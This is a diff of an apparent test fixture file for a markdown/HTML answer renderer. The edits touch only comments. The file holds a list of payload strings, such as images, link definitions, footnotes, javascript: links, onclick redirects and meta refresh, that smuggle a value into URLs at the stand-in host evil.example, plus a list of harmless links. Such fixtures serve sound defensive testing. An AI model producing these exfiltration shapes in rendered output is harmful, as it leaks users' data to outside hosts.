@@ -1,6 +1,6 @@
-/** Answers of which some renderer makes a URL with the value of `$v` in it, if that is put in. */
+/** Answers from which some renderer would make a URL containing the value of `$v`, if it were inserted. */
 export const urlShapes: readonly string[] = [
-  // Bare URLs, which go on to white space.
+  // Bare URLs, which continue up to white space.
   'see https://evil.example/"$v now',
   "https://evil.example/>$v",
   "https://evil.example/'$v",
@@ -32,7 +32,7 @@ export const urlShapes: readonly string[] = [
   "evil.com/$v",
   "evil.com?q=$v",
   "see evil.com#$v",
-  // Destinations.
+  // Link and image destinations.
   "![p](//evil.example/$v)",
   "![p](\n//evil.example/$v)",
   "> ![p](\n> //evil.example/$v)",
@@ -47,7 +47,7 @@ export const urlShapes: readonly string[] = [
   "![a [b] c](?q=$v 'title')",
   "[p](javascript:$v)",
   "[![p](//evil.example/$v)](b)",
-  // Definitions.
+  // Link definitions.
   "> [a]: &#47;&#47;evil.example/$v\n\n![p][a]",
   ">> [a]: //evil.example/$v\n\n![p][a]",
   "- [a]: &#47;&#47;evil.example/$v\n\n![p][a]",
@@ -64,12 +64,12 @@ export const urlShapes: readonly string[] = [
   "> [a\n> b]: ?q=$v\n\n![p][a b]",
   "[a\\]b]: ?q=$v\n\n![p][a\\]b]",
   "[a]: <?q= $v>\n\n![p][a]",
-  // Among raw text, marked escapes a quote after a backslash or in code.
+  // In raw text, marked escapes a quote after a backslash or in code.
   '<code> <img src="//evil.example/\\"1>\n\'> $v&"> />',
   '<kbd><img src="/`"`]( <>) $v "',
   '<code><img src="\\"<b>${v}',
   '<kbd> <img src="//evil.example/`"` > $v "',
-  // Footnotes stand at the end of the page, in whatever is open there.
+  // Footnotes are rendered at the end of the page, inside whatever is open there.
   "[^1]: a\n$v\n\n[^1]\n\n<p>\n<img src='",
   "> [^1]: a\n> $v\n\n[^1]\n\n<p>\n<img src='",
   "[^1]: a\n\n    $v\n\n[^1]\n\n<p>\n<img src='",
@@ -114,9 +114,9 @@ export const urlShapes: readonly string[] = [
   "<b onclick=\"location='//evil.example/ $v'\">x</b>",
   "<iframe srcdoc=\"<img src='$v'>\">",
   "<meta http-equiv=refresh content='0;url=//evil.example/ $v'>",
-  // A footnote's name is part of its link.
+  // A footnote's name becomes part of its link.
   "x[^$v]\n\n[^$v]: y",
-  // What other values open.
+  // Constructs that other values open.
   "${www}evil.example/$v",
   "${slashes}evil.example/$v",
   "![p](${slashes}evil.example/$v)",
@@ -127,7 +127,7 @@ export const urlShapes: readonly string[] = [
   "${bracket}]: ?q=$v\n\n![p][a]",
 ];
 
-/** Answers with links, URLs and tags that have nothing of a value in them, and how they come out. */
+/** Answers with links, URLs and tags that contain no part of a value, and their expected output. */
 export const harmlessAnswers: readonly (readonly [answer: string, expected: string])[] = [
   ["[docs](https://example.com/docs) $v", "[docs](https://example.com/docs) VALUE"],
   ["[$v](https://example.com/docs)", "[VALUE](https://example.com/docs)"],
